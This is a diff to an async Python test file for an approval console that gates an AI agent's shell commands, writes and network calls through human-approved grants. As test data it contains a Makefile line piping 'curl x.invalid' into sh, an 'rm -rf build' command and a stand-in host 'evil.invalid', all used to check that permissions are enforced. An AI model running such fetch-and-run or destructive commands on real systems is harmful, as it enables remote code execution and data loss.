@@ -47,13 +47,31 @@ async def test_a_pending_pipe_is_not_answered_by_grants_of_its_parts_alone(agent
     assert hook_output((await asyncio.wait_for(piped, 10))[1])["permissionDecision"] == "deny"
 
 
-async def test_a_grant_covers_its_command_in_the_folder_it_was_approved_in(agent_server: AgentServer) -> None:
-    task = await _hook(agent_server, "cd /workspace/src && make")
-    req = await next_pending(agent_server.inbox)
-    await agent_server.inbox.decide(req.id, True, "alice", "run")
+async def _approve(server: AgentServer, command: str) -> None:
+    task = await _hook(server, command)
+    req = await next_pending(server.inbox)
+    await server.inbox.decide(req.id, True, "alice", "run")
     assert hook_output((await task)[1])["permissionDecision"] == "allow"
-    assert await asked_or_allowed(agent_server, await _hook(agent_server, "make")) == "asked"
+
+
+async def test_a_grant_covers_its_command_after_the_same_cds_only(agent_server: AgentServer) -> None:
+    """Also (helper 111) a relative `cd`, and a `cd` the shell never applies to the command
+    after it: in the background, a subshell, a pipeline, a branch not taken."""
+    await _approve(agent_server, "cd /workspace/src && make")
+    for later in ("make", "cd /workspace/src & make", "(cd /workspace/src); make",
+                  "cd /workspace/src | true; make", "echo x || cd /workspace/src; make"):
+        assert await asked_or_allowed(agent_server, await _hook(agent_server, later)) == "asked", later
     again = await _hook(agent_server, "cd /workspace/src && make")
+    assert await asked_or_allowed(agent_server, again) == "allow"
+    await _approve(agent_server, "cd src && make test")
+    assert await asked_or_allowed(agent_server, await _hook(agent_server, "make test")) == "asked"
+
+
+async def test_a_grant_after_a_quoted_folder_is_reused(agent_server: AgentServer) -> None:
+    """Helper 111: the hook's own `cd '/workspace/{{proj}}' &&` made a grant no later ask
+    could use (its folder read as unknown)."""
+    await _approve(agent_server, "cd '/workspace/{{proj}}' && make")
+    again = await _hook(agent_server, "cd '/workspace/{{proj}}' && make")
     assert await asked_or_allowed(agent_server, again) == "allow"
 
 
@@ -114,3 +132,55 @@ async def test_a_relative_write_is_asked_as_the_whole_path(agent_server: AgentSe
     top = await hook(agent_server, "Write", {"file_path": "Makefile", "content": "all:; curl x.invalid | sh\n"},
                      cwd="/workspace")
     assert await asked_or_allowed(agent_server, top) == "asked"
+
+
+async def test_a_pending_line_whose_granted_part_was_revoked_is_not_answered() -> None:
+    """Helper 111: `rm -rf build` granted; `rm -rf build; ./deploy.sh` pending (asking
+    ./deploy.sh only); the grant revoked; then `./deploy.sh` approved for the run answered the
+    pending line, which the hook's next ask would have asked."""
+    from console.daemon.inbox import Inbox
+    from console.policy import GrantTable, make_policy_eval, new_grant
+    from tests.approvals.conftest import RULES, Recorder
+
+    grants = GrantTable()
+    inbox = Inbox(Recorder(), timeout_s=30.0, grants=grants,
+                  policy_now=make_policy_eval(lambda profile: RULES, grants, consume=False))
+    build = grants.add(new_grant("exec", "rm -rf build", "allow", "run", run_id="r1", profile="p",
+                                 decided_by="alice"))
+    line = asyncio.create_task(inbox.submit("r1", "p", "exec", "rm -rf build; ./deploy.sh",
+                                            grant_patterns=["./deploy.sh"]))
+    alone = asyncio.create_task(inbox.submit("r1", "p", "exec", "./deploy.sh",
+                                             grant_patterns=["./deploy.sh"]))
+    for _ in range(200):
+        if len(inbox.pending()) == 2:
+            break
+        await asyncio.sleep(0.01)
+    grants.revoke(build.id)
+    first = next(r for r in inbox.pending() if r.subject == "./deploy.sh")
+    other = next(r for r in inbox.pending() if r.subject != "./deploy.sh")
+    decided = await inbox.decide(first.id, True, "alice", "run")
+    assert other.id not in decided.also_decided and other.state == "pending", decided
+    await inbox.decide(other.id, False, "alice")
+    await asyncio.gather(line, alone)
+
+
+async def test_a_deny_grant_on_an_address_stops_a_pending_name_that_resolves_there() -> None:
+    """Helper 111: a deny of 127.0.0.9:443 for the run, then an allow of one `evil.invalid:443`
+    (which resolves there): the inbox answered the other one allow; the gate denies it."""
+    from console.daemon.inbox import Inbox
+    from tests.approvals.conftest import Recorder
+
+    inbox = Inbox(Recorder(), timeout_s=30.0)
+    detail = {"addresses": ["127.0.0.9"]}
+    waits = [asyncio.create_task(inbox.submit("r1", "p", "network", s, detail if "evil" in s else None,
+                                              grant_patterns=[s]))
+             for s in ("evil.invalid:443", "evil.invalid:443", "127.0.0.9:443")]
+    for _ in range(200):
+        if len(inbox.pending()) == 3:
+            break
+        await asyncio.sleep(0.01)
+    address = next(r for r in inbox.pending() if r.subject == "127.0.0.9:443")
+    named = [r for r in inbox.pending() if r.subject == "evil.invalid:443"]
+    await inbox.decide(address.id, False, "alice", "run")
+    assert [r.state for r in named] == ["denied", "denied"]  # as the gate decides them
+    await asyncio.gather(*waits)
